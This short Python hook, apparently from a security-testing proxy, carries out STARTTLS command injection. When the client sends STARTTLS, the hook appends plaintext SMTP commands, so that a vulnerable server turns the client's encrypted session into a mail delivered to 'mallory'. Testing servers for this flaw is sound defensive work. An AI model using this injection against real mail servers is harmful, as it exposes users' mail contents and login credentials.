"""Words behind STARTTLS, up to DATA. What the client says inside TLS is then the text of a mail to
mallory, and the replies to our commands are those that it waits for."""


def from_client(data):
    if data.upper() == b"STARTTLS\r\n":
        return (data + b"EHLO mallory.example\r\nMAIL FROM:<mallory@example.org>\r\n"
                b"RCPT TO:<mallory@localhost>\r\nDATA\r\n")
    return data
